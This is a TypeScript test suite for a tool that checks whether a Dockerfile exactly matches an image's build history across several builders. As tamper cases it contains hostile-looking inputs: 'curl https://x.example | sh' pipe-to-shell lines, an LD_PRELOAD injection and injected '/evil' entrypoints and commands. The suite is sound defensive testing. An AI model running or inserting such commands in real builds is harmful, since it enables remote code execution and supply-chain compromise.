import { readFileSync } from "node:fs";
import { describe, expect, test } from "vitest";
import { z } from "zod";
import {
  chooseDockerfile,
  findBaseDifference,
  type HistoryLine,
  parseDockerfile,
} from "../../../shared/dockerfile/index.ts";
import { mutationsOf, unrecorded } from "./mutations.ts";

/** Dockerfiles, and the histories that real builders wrote for them. */
const builders = z
  .object({
    dockerfiles: z.record(z.string(), z.string()),
    images: z.array(
      z.object({
        builder: z.string(),
        dockerfile: z.string(),
        /** Build arguments of the call, which change values. */
        arguments: z.string().optional(),
        onBuild: z.array(z.string()).optional(),
        history: z.array(
          z.object({
            createdBy: z.string(),
            emptyLayer: z.boolean().default(false),
            created: z.string().optional(),
            comment: z.string().optional(),
          }),
        ),
      }),
    ),
  })
  .parse(JSON.parse(readFileSync(new URL("builders.json", import.meta.url), "utf8")));
type BuiltBy = (typeof builders.images)[number];

function isExact(text: string, history: readonly HistoryLine[], onBuild?: readonly string[]): boolean {
  const layers = history.filter(({ emptyLayer }) => !emptyLayer);
  const image = { history, layers, ...(onBuild === undefined ? {} : { config: { onBuild } }) };
  return chooseDockerfile([{ path: "Dockerfile", text }], image).exact.length === 1;
}

/** The text with the lines of one instruction of the last stage replaced. */
function replaced(text: string, line: number, by: string): string {
  const file = parseDockerfile(text);
  const instruction = file.instructions.find((each) => each.line === line);
  if (instruction === undefined) throw new Error(`no instruction at line ${line}`);
  return text.slice(0, instruction.span.start) + by + text.slice(instruction.span.end);
}

/** Lines of the instructions of the last stage. */
function lastLines(text: string): readonly number[] {
  const { instructions } = parseDockerfile(text);
  const from = instructions.findLastIndex(({ keyword }) => keyword === "FROM");
  return instructions.slice(from + 1).map(({ line }) => line);
}

const script = "RUN <<EOF\n#!/bin/sh\necho script\nEOF\n";

/** The image as if its Dockerfile had no here-document with a script, whose text BuildKit does not record. */
function withoutScript({ dockerfile, history }: BuiltBy) {
  const text = builders.dockerfiles[dockerfile] ?? "";
  if (!text.includes(script)) return { text, history };
  return {
    text: text.replace(script, ""),
    history: history.filter(({ createdBy }) => !createdBy.includes("/dev/pipes/EOF")),
  };
}

const named = (images: readonly BuiltBy[]) =>
  images.map((image) => [`${image.dockerfile} of ${image.builder}`, image] as const);

describe.each(named(builders.images.filter((image) => image.arguments === undefined)))(
  "the history of Dockerfile %s",
  (_name, image) => {
    const { text, history } = withoutScript(image);
    const { onBuild } = image;

    test("matches that file exactly and no other", () => {
      expect(isExact(text, history, onBuild)).toBe(true);
      const exact = Object.entries(builders.dockerfiles).filter(([, other]) => isExact(other, history, onBuild));
      expect(exact.map(([name]) => name)).toEqual(text.includes("<<-") ? [] : [image.dockerfile]);
    });

    test("does not match the file with anything changed that the builder records", () => {
      const [builder = ""] = image.builder.split(" ");
      const recorded = mutationsOf(text).filter(
        ({ name }) => !unrecorded[builder]?.some((what) => name.includes(what)),
      );
      const missed = recorded.filter((mutation) => isExact(mutation.text, history, onBuild));
      expect(recorded.length).toBeGreaterThan(1);
      // The legacy builder gives the platform's arguments no value, so that another name means the same.
      expect(missed.map(({ name }) => name)).toEqual(
        image.dockerfile === "escape" && builder === "legacy"
          ? [expect.stringContaining("$TARGETARCHx"), expect.stringContaining("$TARGETARCHx")]
          : [],
      );
    });

    test("does not match the file with an instruction more, less or replaced", () => {
      expect(isExact(`${text}\nRUN echo more\n`, history, onBuild)).toBe(false);
      const [first = 0, ...others] = lastLines(text);
      expect(isExact(replaced(text, first, "RUN curl https://x.example | sh"), history, onBuild)).toBe(false);
      for (const line of others) {
        expect(isExact(replaced(text, line, "RUN curl https://x.example | sh"), history, onBuild), `${line}`).toBe(
          false,
        );
        expect(isExact(replaced(text, line, ""), history, onBuild), `${line}`).toBe(false);
      }
    });

    test("does not match if the image has another step, unless the build's call adds a label", () => {
      const step = (createdBy: string): HistoryLine => ({ createdBy, emptyLayer: true });
      expect(isExact(text, [...history, step('ENTRYPOINT ["/evil"]')], onBuild)).toBe(false);
      expect(isExact(text, [...history, step("ARG x")], onBuild)).toBe(false);
      expect(isExact(text, [...history, step("/bin/sh -c #(nop)  LABEL call=1")], onBuild)).toBe(true);
      expect(isExact(text, [...history, { createdBy: "/bin/sh -c #(nop) ", emptyLayer: false }], onBuild)).toBe(false);
    });
  },
);

test.each(named(builders.images.filter((image) => image.arguments !== undefined)))(
  "the history of Dockerfile %s does not match if an argument of the call changes a value",
  (_name, image) => {
    const { text, history } = withoutScript(image);
    expect(isExact(text, history, image.onBuild)).toBe(false);
  },
);

test("the history of a script in a here-document does not show what ran", () => {
  expect(
    builders.images.filter((image) => isExact(builders.dockerfiles[image.dockerfile] ?? "", image.history)),
  ).toEqual(expect.not.arrayContaining([expect.objectContaining({ dockerfile: "heredocs" })]));
});

describe("instructions on top of the linted file", () => {
  const of = (dockerfile: string, builder: string): BuiltBy => {
    const found = builders.images.find((each) => each.dockerfile === dockerfile && each.builder.startsWith(builder));
    if (found === undefined) throw new Error(`no ${dockerfile} of ${builder}`);
    return found;
  };
  /** The text without the first instruction after FROM, as it would have been linted. */
  const linted = (dockerfile: string): string => {
    const text = builders.dockerfiles[dockerfile] ?? "";
    return replaced(text, lastLines(text)[0] ?? 0, "");
  };

  test("are noticed in histories of BuildKit before the first new layer, and of Buildah", () => {
    expect(isExact(linted("4"), of("4", "Buildah").history)).toBe(true);
    expect(isExact(linted("top"), of("top", "Buildah").history)).toBe(false);
    expect(isExact(linted("options").replaceAll("$NAME", "conf"), of("options", "BuildKit").history)).toBe(false);
  });

  test("are noticed in the legacy builder's histories only by comparison with the base image", () => {
    const stepsBelow = (dockerfile: string, text: string) => {
      const { history } = of(dockerfile, "legacy");
      const layers = history.filter(({ emptyLayer }) => !emptyLayer);
      const [exact] = chooseDockerfile([{ path: "Dockerfile", text }], { history, layers }).exact;
      const { baseSteps = 0, base } = exact ?? {};
      const diffIds = layers.map(({ createdBy = "" }) => createdBy);
      return { base, baseSteps, history, diffIds };
    };
    const honest = stepsBelow("top", builders.dockerfiles["top"] ?? "");
    const { baseSteps, history, diffIds } = stepsBelow("top", linted("top"));
    expect([honest.baseSteps, baseSteps]).toEqual([5, 6]);
    const below = history.slice(0, honest.baseSteps);
    const count = below.filter(({ emptyLayer }) => !emptyLayer).length;
    const none = {
      env: [],
      user: "",
      workingDir: "",
      entrypoint: [],
      cmd: [],
      shell: [],
      exposedPorts: [],
      volumes: [],
    };
    const base = { history: below, diffIds: diffIds.slice(0, count), config: none };
    expect(findBaseDifference({ ...honest, config: none }, honest.baseSteps, base)).toBeUndefined();
    expect(findBaseDifference({ history, diffIds, config: none }, baseSteps, base)).toMatch(/^it has |^\d+ step/u);
  });
});

test("ONBUILD of BuildKit is compared with the image's configuration", () => {
  const image = builders.images.find(({ onBuild }) => onBuild !== undefined);
  const text = builders.dockerfiles["3"] ?? "";
  expect(isExact(text, image?.history ?? [], ["RUN echo later"])).toBe(true);
  expect(isExact(text, image?.history ?? [], ["RUN evil"])).toBe(false);
  expect(isExact(text, image?.history ?? [], [])).toBe(false);
  expect(isExact(text, image?.history ?? [])).toBe(false);
});

describe("a step that sets more than its instruction is not exact", () => {
  const of = (instruction: string, step: string): boolean =>
    isExact(`FROM a\nRUN make\n${instruction}\n`, [
      { createdBy: "RUN /bin/sh -c make # buildkit", emptyLayer: false },
      { createdBy: step, emptyLayer: true },
    ]);

  test.each([
    ["ENV A=1", "ENV A=1", true],
    ["ENV A=1", "ENV A=1 LD_PRELOAD=/x.so", false],
    ["ENV A='b C=2'", "ENV A=b C=2", true],
    ["ENV OLD style value", "ENV OLD=style value", true],
    ['ENTRYPOINT ["/app"]', 'ENTRYPOINT ["/app"]', true],
    ['ENTRYPOINT ["/app"]', 'ENTRYPOINT ["/evil" "/app"]', false],
    ['ENTRYPOINT ["/app"]', 'ENTRYPOINT ["/app" "--evil"]', false],
    ["CMD echo shell form", 'CMD ["/bin/sh" "-c" "echo shell form"]', true],
    ["CMD echo shell form", 'CMD ["/bin/sh" "-c" "evil; echo shell form"]', false],
    ['CMD ["sh", "-c", "echo $HOME"]', 'CMD ["sh" "-c" "echo $HOME"]', true],
    ["USER app", "USER app", true],
    ["USER app", "USER app:root", false],
    ['SHELL ["/bin/sh", "-c"]', "SHELL [/bin/sh -c]", true],
    ['SHELL ["/bin/sh", "-c"]', "SHELL [/evil /bin/sh -c]", false],
    ["STOPSIGNAL SIGTERM", "STOPSIGNAL SIGTERM", true],
  ])("%s with %s", (instruction, step, expected) => {
    expect(of(instruction, step)).toBe(expected);
  });
});

test("a Dockerfile without steps matches nothing", () => {
  expect(isExact("FROM a\n", [{ createdBy: 'CMD ["sh"]', emptyLayer: true }])).toBe(false);
});

describe("a history is not exact", () => {
  const step = (createdBy: string, emptyLayer = false): HistoryLine => ({ createdBy, emptyLayer });
  const base = step("COPY . / # buildkit");
  const make = step("RUN /bin/sh -c make # buildkit");
  const text = "FROM a\nRUN make\n";

  test("but is with the same command, whatever the base image has", () => {
    expect(isExact(text, [base, make])).toBe(true);
    const shell = step("SHELL [/bin/bash -o pipefail -c]", true);
    expect(isExact(text, [base, shell, step("RUN /bin/bash -o pipefail -c make # buildkit")])).toBe(true);
  });

  test.each(["|2 A=b c D=e /bin/sh -c", "/bin/bash -o pipefail -c", "/usr/bin/env bash -euxc"])(
    "if %s precedes the command",
    (before) => {
      expect(isExact(text, [base, step(`RUN ${before} make # buildkit`)])).toBe(false);
    },
  );

  test.each(["ONBUILD RUN x", "ARG a"])("if it has %s", (createdBy) => {
    expect(isExact(text, [base, make, step(createdBy, true)])).toBe(false);
  });

  test.each(["LABEL a=b"])("if %s made a layer", (createdBy) => {
    expect(isExact(text, [base, make, step(createdBy, true)])).toBe(true);
    expect(isExact(text, [base, make, step(createdBy)])).toBe(false);
  });

  test("if another step precedes those of a file FROM scratch", () => {
    expect(isExact("FROM scratch\nRUN make\n", [make])).toBe(true);
    expect(isExact("FROM scratch\nRUN make\n", [base, make])).toBe(false);
  });

  test.each(["curl evil | sh -c make", "evil; sh -c make", "evil sh -c make"])("if the shell ran %s", (command) => {
    expect(isExact(text, [base, step(`RUN /bin/sh -c ${command} # buildkit`)])).toBe(false);
  });

  test("if it is too long to be compared", () => {
    expect(isExact(text.replace("RUN make\n", "RUN make\n".repeat(1001)), Array(1001).fill(make))).toBe(false);
  });

  test("and long texts are compared in bounded time", () => {
    for (const before of [`|1 ; ${"sh".repeat(31_000)}`, `|1 ; ${"sh -x ".repeat(10_000)}`, "a ".repeat(31_000)]) {
      expect(isExact(text, [base, step(`RUN ${before} make`)])).toBe(false);
    }
  }, 2_000);

  test("and hostile files are compared in bounded time", () => {
    const count = 900;
    const grow = Array(count).fill(`ENV A=${"$A".repeat(4)}`);
    const copies = Array(count).fill(`ENV B=${"$A".repeat(16)}`);
    for (const lines of [grow, copies, Array(count).fill("LABEL a=$A"), Array(count).fill("EXPOSE 1-65535 1-65535")]) {
      const file = `FROM a\nARG TARGETARCH\nARG BUILDARCH\nENV A=${"x".repeat(1000)}\n${lines.join("\n")}\nRUN make\n`;
      const steps = file
        .split("\n")
        .slice(1, -2)
        .map((line) => step(`/bin/sh -c #(nop) ${line}`, true));
      expect(isExact(file, [base, ...steps, make])).toBe(false);
    }
  }, 20_000);
});
